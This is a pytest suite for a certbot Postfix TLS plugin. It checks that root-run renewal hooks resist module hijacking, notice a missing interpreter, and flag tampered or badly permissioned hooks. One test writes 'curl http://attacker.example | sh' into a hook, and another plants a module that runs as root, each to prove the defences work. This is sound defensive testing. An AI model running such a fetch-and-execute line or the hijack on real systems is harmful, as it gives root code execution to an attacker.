"""Renewal hooks that cannot be hijacked and do not rot.

certbot runs every executable in renewal-hooks/* as root, through a shell, in
its own working directory. ``python3 -m certbot_postfix_tls`` would put that
directory first on sys.path; the hooks run Python isolated (-I). A hook also
freezes an interpreter path (a virtualenv, a snap revision) that an upgrade
can take away: the hook then says so and exits 0, ``hooks.problems`` and
``doctor`` name it with the fix, and ``certbot install`` rewrites it.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO
from lab.hooks import format1_hook, install_text, make_venv, plant

from certbot_postfix_tls._internal import hooks, process


def run_as_certbot_does(path: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    """What certbot does with a directory hook: the path, through a shell, in its cwd."""
    return subprocess.run(  # noqa: S602 - exactly what certbot does
        path, shell=True, cwd=cwd, env={**os.environ, **env}, capture_output=True, text=True,
        timeout=120, check=False,
    )


@pytest.fixture
def config_dir(tmp_path: Path) -> str:
    if os.geteuid() != 0:
        pytest.skip("hooks are written root-owned")
    path = tmp_path / "config"
    path.mkdir()
    return str(path)


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    """A throwaway virtualenv that imports this checkout (lab.hooks.make_venv)."""
    return make_venv(tmp_path / "venv")


# --- hijacking -----------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["module", "sys-path"])
def test_planted_module_in_certbots_cwd_never_runs(
    tmp_path: Path, config_dir: str, how: str
) -> None:
    cwd = tmp_path / "cwd"
    marker = plant(cwd)
    package_dir = str(REPO)
    runner = hooks.current_runner() if how == "module" else hooks.Runner(
        sys.executable, (package_dir,))
    hooks.write_hooks(config_dir, runner=runner)
    for kind in hooks.KINDS:
        proc = run_as_certbot_does(hooks.hook_path(config_dir, kind), cwd,
                                   RENEWED_LINEAGE=str(tmp_path / "live" / "other"),
                                   PYTHONPATH=str(cwd))
        assert proc.returncode == 0, proc.stderr
        assert not marker.exists(), kind
        assert hooks.intact(config_dir, kind)

    # Control: the hook as it used to be runs the planted module as root.
    path = hooks.hook_path(config_dir, "deploy")
    install_text(path, format1_hook(sys.executable, config_dir, "deploy"))
    run_as_certbot_does(path, cwd, RENEWED_LINEAGE=str(tmp_path / "live" / "other"))
    assert marker.read_text() == "ran as uid 0"


def test_old_hook_is_stale_and_refreshed_with_its_interpreter(
    config_dir: str, venv: Path
) -> None:
    python = str(venv / "bin" / "python")
    for kind in hooks.KINDS:
        install_text(hooks.hook_path(config_dir, kind), format1_hook(python, config_dir, kind))
    problems = hooks.problems(config_dir)
    assert len(problems) == 2
    assert all("runs Python without -I" in p and "planted" in p for p in problems)
    assert "certbot install --installer postfix-tls --cert-name NAME rewrites both hooks" in (
        problems[0])
    assert not hooks.all_intact(config_dir)

    # What the Debian package's postinst runs: the working venv is kept, now isolated.
    assert hooks.refresh_hooks(config_dir) == [
        hooks.hook_path(config_dir, kind) for kind in hooks.KINDS]
    assert hooks.problems(config_dir) == []
    text = Path(hooks.hook_path(config_dir, "post")).read_text()
    assert f"exec {python} -I -m certbot_postfix_tls --config-dir {config_dir} hook post\n" in text
    assert hooks.refresh_hooks(config_dir) == []


# --- rot -----------------------------------------------------------------------------------


def test_hook_whose_venv_went_away(tmp_path: Path, config_dir: str, venv: Path) -> None:
    python = str(venv / "bin" / "python")
    hooks.write_hooks(config_dir, runner=hooks.Runner(python))
    assert hooks.problems(config_dir) == []
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    proc = run_as_certbot_does(hooks.hook_path(config_dir, "post"), cwd)
    assert (proc.returncode, proc.stderr) == (0, ""), proc.stderr

    # The plugin is uninstalled from the venv (the .pth goes): the interpreter stays.
    pth = next(venv.glob("lib/python*/site-packages/plugin.pth"))
    pth.rename(pth.with_suffix(".off"))
    proc = run_as_certbot_does(hooks.hook_path(config_dir, "deploy"), cwd)
    assert proc.returncode == 0
    assert proc.stderr.startswith(
        f"certbot-postfix-tls: deploy hook skipped: {python} cannot import the "
        "certbot_postfix_tls package")
    assert f"delete {hooks.hook_path(config_dir, 'deploy')}." in proc.stderr
    problems = hooks.problems(config_dir)
    assert len(problems) == 2 and all("cannot import certbot_postfix_tls any more" in p
                                      for p in problems)

    # The venv itself is replaced by an upgrade.
    shutil.rmtree(venv)
    proc = run_as_certbot_does(hooks.hook_path(config_dir, "post"), cwd)
    assert proc.returncode == 0 and "post hook skipped" in proc.stderr
    problems = hooks.problems(config_dir)
    assert all("which no longer exists" in p for p in problems) and len(problems) == 2
    assert not hooks.intact(config_dir, "deploy")

    # Every install rewrites the hooks with the interpreter running it.
    assert hooks.write_hooks(config_dir) == [
        hooks.hook_path(config_dir, kind) for kind in hooks.KINDS]
    assert hooks.problems(config_dir) == []
    assert hooks.write_hooks(config_dir) == []


def test_unsafe_or_foreign_hooks(config_dir: str) -> None:
    hooks.write_hooks(config_dir)
    deploy, post = (hooks.hook_path(config_dir, kind) for kind in hooks.KINDS)
    os.chmod(deploy, 0o775)
    assert hooks.problems(config_dir) == [
        f"The deploy hook {deploy} (owner root, mode 0775) can be changed by someone other "
        f"than root, and certbot runs it as root: run chown root:root {deploy} && "
        f"chmod 0755 {deploy}."
    ]
    assert hooks.write_hooks(config_dir) == [deploy]  # repaired
    assert os.stat(deploy).st_mode & 0o7777 == 0o755

    with open(post, "a") as handle:
        handle.write("curl http://attacker.example | sh\n")
    assert "differs from what the plugin writes" in hooks.problems(config_dir)[0]
    os.unlink(post)
    install_text(post, "#!/bin/sh\necho someone else's hook\n")
    assert "was not written by certbot-postfix-tls" in hooks.problems(config_dir)[0]
    hooks.remove_hooks(config_dir)
    assert not os.path.exists(deploy)
    assert Path(post).read_text() == "#!/bin/sh\necho someone else's hook\n"  # not ours: kept
    assert hooks.problems(config_dir)[0].startswith(f"The deploy hook {deploy} is missing")


def test_no_stray_executable_in_the_hooks_directory(config_dir: str) -> None:
    """certbot runs every executable there, dot-files included."""
    hooks.write_hooks(config_dir)
    for kind in hooks.KINDS:
        directory = os.path.dirname(hooks.hook_path(config_dir, kind))
        assert os.listdir(directory) == [hooks.HOOK_NAME]


def test_durable_interpreter_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "executable", "/usr/bin/python3.11")
    monkeypatch.setattr(sys, "prefix", sys.base_prefix)
    assert hooks._interpreters()[0] == "/usr/bin/python3"  # survives python3.11 -> 3.13
    monkeypatch.setattr(hooks.os.path, "samefile", lambda a, b: True)
    assert hooks._stable_path("/snap/certbot/4567/bin/python3") == (
        "/snap/certbot/current/bin/python3")
    assert hooks._stable_path("/work/venv/bin/python") == "/work/venv/bin/python"


# --- snap environment -------------------------------------------------------------------------


def test_external_commands_get_no_snap_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    snap = tmp_path / "snap" / "certbot" / "4567"
    (snap / "bin").mkdir(parents=True)
    tool = snap / "bin" / "cpt-snap-only-tool"
    tool.write_text("#!/bin/sh\necho snap\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{snap / 'bin'}:/usr/bin:/bin")
    monkeypatch.setenv("LD_LIBRARY_PATH", f"{snap / 'lib'}:/opt/lib")
    assert process.find_tool("cpt-snap-only-tool") == str(tool)
    monkeypatch.setenv("SNAP", str(snap))
    monkeypatch.setenv("CERTBOT_SNAPPED", "True")
    assert process.find_tool("cpt-snap-only-tool") is None
    env = dict(line.split("=", 1) for line in process.run(["env"], what="env").stdout.splitlines()
               if "=" in line)
    assert env["LD_LIBRARY_PATH"] == "/opt/lib"
    assert str(snap) not in env["PATH"]
    extra = process.run(["env"], what="env", env={"LC_ALL": "C"}).stdout
    assert "LC_ALL=C" in extra and str(snap / "lib") not in extra


# --- the Debian package's maintainer scripts ----------------------------------------------------
